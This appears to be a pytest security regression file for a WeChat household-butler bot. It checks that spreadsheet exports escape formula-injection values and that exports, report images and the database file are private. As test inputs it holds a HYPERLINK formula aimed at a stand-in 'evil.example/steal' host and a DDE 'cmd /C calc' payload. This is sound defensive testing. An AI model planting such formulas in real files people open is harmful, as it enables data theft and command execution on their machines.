"""Attack 8 (exports, files): a survey answer `=HYPERLINK(...)` became a live formula in the XLSX
export, and statements, exports, report images and `butler.db` were created world-readable."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
import uuid
from datetime import date
from pathlib import Path

import yaml
from openpyxl import load_workbook

from bot.cli.statements import Report, write_report
from bot.devtools.fake_wechat import FakeWeChatAPI
from storage.money import HouseholdStatement, MerchantPayout, StatementLine
from tests import subproc
from tests.broadcasts.kit import add_owner, make_place, say
from tests.conftest import Backend, Hub, make_settings, start_hub

BUTLER = str(Path(sys.executable).with_name("butler"))
EVIL = '=HYPERLINK("http://evil.example/steal")'


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


async def abutler(db_url: str, *args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "BUTLER_DATABASE_URL": db_url}
    return await subproc.run([BUTLER, *args], env=env, cwd=cwd, capture_output=True, text=True, timeout=120)


async def test_a_formula_in_a_survey_answer_is_plain_text_in_both_exports(hub: Hub, backend: Backend, tmp_path: Path) -> None:
    key = f"sec_{uuid.uuid4().hex[:8]}"
    spec = {"key": key, "title": f"意见征集{key}", "allow_repeat": True,
            "questions": [{"key": "idea", "type": "text", "text": "您有什么建议？"}]}
    (tmp_path / "s.yaml").write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    loaded = (await abutler(backend.database_url, "survey", "load", "s.yaml", cwd=tmp_path))
    assert loaded.returncode == 0, loaded.stderr
    survey_id = loaded.stdout.split("(id ")[1].split(",")[0]
    place = await make_place(hub)
    owner = await add_owner(hub, place, "a")
    recorded = await say(hub, place.staff_openid, f"/record_survey {key} {owner} 入户 idea={EVIL}")
    assert "已登记" in recorded, recorded

    os.umask(0o022)  # a typical shell: without care, files come out 0644
    for fmt in ("csv", "xlsx"):
        done = (await abutler(backend.database_url, "survey", "export", survey_id, "--format", fmt, "-o", f"out.{fmt}", cwd=tmp_path))
        assert done.returncode == 0, done.stderr
        assert _mode(tmp_path / f"out.{fmt}") == 0o600
    with (tmp_path / "out.csv").open(encoding="utf-8-sig") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    sheet = load_workbook(tmp_path / "out.xlsx").active
    values = [c for row in sheet.iter_rows() for c in row]
    assert not [c for c in values if c.data_type == "f" or str(c.value or "").startswith("=")]
    assert "'" + EVIL in [c.value for c in values]


def test_statements_escape_formulas_keep_amounts_and_are_private(tmp_path: Path) -> None:
    os.umask(0o022)
    statement = HouseholdStatement(
        month="2026-11", owner_id=1, owner_name="@SUM(1+1)*cmd|' /C calc'!A0", community="翠苑",
        address="+3号楼", phone="-13800000000",
        lines=[StatementLine("EN6SBS", date(2026, 11, 3), "钟点工", "=张师傅", 15000)],
    )
    payout = MerchantPayout(month="2026-11", merchant_id=1, merchant_name="=HYPERLINK(1)", telegram_id=5,
                            orders=1, amount_fen=15000, commission_fen=3000, payout_fen=12000)
    out = tmp_path / "statements"
    paths = write_report(Report([statement], [payout]), month="2026-11", out_dir=out, formats={"csv", "xlsx"})
    assert len(paths) == 4 and all(_mode(p) == 0o600 for p in paths)
    assert _mode(out) == 0o700
    text = (out / "household-statements-2026-11.csv").read_text(encoding="utf-8-sig")
    assert "'@SUM" in text and "'+3号楼" in text and "'=张师傅" in text and "'-13800000000" in text
    assert ",150.00" in text  # amounts stay numbers
    book = load_workbook(out / "statements-2026-11.xlsx")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f" and not str(cell.value or "").startswith(("=", "+", "-", "@")), cell.value


async def test_the_database_file_and_report_images_are_private(fake_wechat: FakeWeChatAPI, tmp_path: Path) -> None:
    os.umask(0o022)
    db = tmp_path / "butler.db"
    reports = tmp_path / "reports"
    settings = make_settings(Backend("embedded", f"sqlite+aiosqlite:///{db}", ""), fake_wechat, report_dir=str(reports))
    from storage.migrate import upgrade

    await upgrade(settings.database_url)  # what `butler serve` does first on SQLite
    hub = await start_hub(settings, fake_wechat)
    try:
        place = await make_place(hub)
        answer = await say(hub, place.staff_openid, f"/report {date.today():%Y-%m-%d}")
        assert "日报" in answer
    finally:
        await hub.client.close()
    assert _mode(db) == 0o600
    for side in (tmp_path / "butler.db-wal", tmp_path / "butler.db-shm"):
        if side.exists():
            assert _mode(side) == 0o600, side
    images = list(reports.glob("*.png"))
    assert images and all(_mode(p) == 0o600 for p in images)
